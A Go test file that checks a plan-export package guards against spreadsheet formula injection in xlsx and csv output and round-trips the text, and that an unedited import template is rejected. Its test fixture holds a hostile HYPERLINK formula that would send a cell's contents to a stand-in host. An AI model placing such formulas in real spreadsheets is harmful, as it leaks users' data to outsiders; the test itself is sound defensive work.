package planfile_test

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/duban-bot/duban/planfile"
	"github.com/duban-bot/duban/seeds"
)

// hostilePlan has user text that a spreadsheet would run as a formula.
func hostilePlan() seeds.Plan {
	return seeds.Plan{Year: 2023, Departments: []seeds.Department{{Name: "@市科协", Tasks: []seeds.Task{
		{Seq: 1, Title: `=HYPERLINK("http://x.example/?"&A1,"点此")`, Text: "+1 新建5家", Metrics: []seeds.Metric{
			{Name: "-新建站", Kind: "cumulative", Direction: "at_least", Target: 5, Unit: "家"},
			{Name: "'引号开头的指标", Kind: "cumulative", Direction: "at_least", Target: 2, Unit: "个"},
		}},
	}}}}
}

// Exported text that starts with = + - @ is prefixed with ' in the xlsx and
// the csv, no cell holds a formula, and importing the file gives back the
// text as it was (a quote not followed by a formula character is kept).
func TestExportedTextCannotRunAsFormula(t *testing.T) {
	want := hostilePlan()
	t.Run("xlsx", func(t *testing.T) {
		data := write(t, "plan.xlsx", want)
		f, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		rows, err := f.GetRows("计划")
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows[1:] {
			for i, c := range r {
				if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
					t.Errorf("cell %d of %q starts with a formula character", i, r)
				}
			}
		}
		for _, ref := range []string{"A2", "C2", "D2", "E2", "E3"} {
			if fx, _ := f.GetCellFormula("计划", ref); fx != "" {
				t.Errorf("%s holds formula %q", ref, fx)
			}
		}
		roundTrip(t, "plan.xlsx", data, want)
	})
	t.Run("csv", func(t *testing.T) {
		data := write(t, "plan.csv", want)
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := recs[1][2]; !strings.HasPrefix(got, "'=HYPERLINK") {
			t.Errorf("title cell = %q, want it quoted", got)
		}
		if got := recs[2][4]; got != "'引号开头的指标" {
			t.Errorf("a quote before ordinary text became %q", got)
		}
		roundTrip(t, "plan.csv", data, want)
	})
}

func roundTrip(t *testing.T, name string, data []byte, want seeds.Plan) {
	t.Helper()
	got, rep, err := planfile.Read(name, bytes.NewReader(data), planfile.Options{Year: want.Year})
	if err != nil {
		t.Fatalf("%v: %q", err, problemLines(rep))
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("read back %+v, want %+v", got, want)
	}
}

// The template has the header, one example row, and a 说明 sheet with a
// row for every column; imported unchanged it is refused (the example).
func TestTemplate(t *testing.T) {
	var buf bytes.Buffer
	if err := planfile.WriteTemplate(&buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !reflect.DeepEqual(got, []string{"计划", "说明"}) {
		t.Fatalf("sheets = %v", got)
	}
	rows, _ := f.GetRows("计划")
	if len(rows) != 2 || !reflect.DeepEqual(rows[0], header) {
		t.Fatalf("计划 = %q, want the header and one example", rows)
	}
	help, _ := f.GetRows("说明")
	explained := map[string]bool{}
	for _, r := range help {
		if len(r) > 0 {
			explained[r[0]] = true
		}
	}
	for _, h := range header {
		if !explained[h] {
			t.Errorf("说明 does not explain %s", h)
		}
	}
	_, rep, err := planfile.Read("t.xlsx", bytes.NewReader(buf.Bytes()), planfile.Options{Year: 2023})
	if err == nil || len(rep.Problems) != 1 || !strings.Contains(rep.Problems[0].String(), "示例行") {
		t.Fatalf("template imported as is: err %v, problems %q", err, problemLines(rep))
	}
}
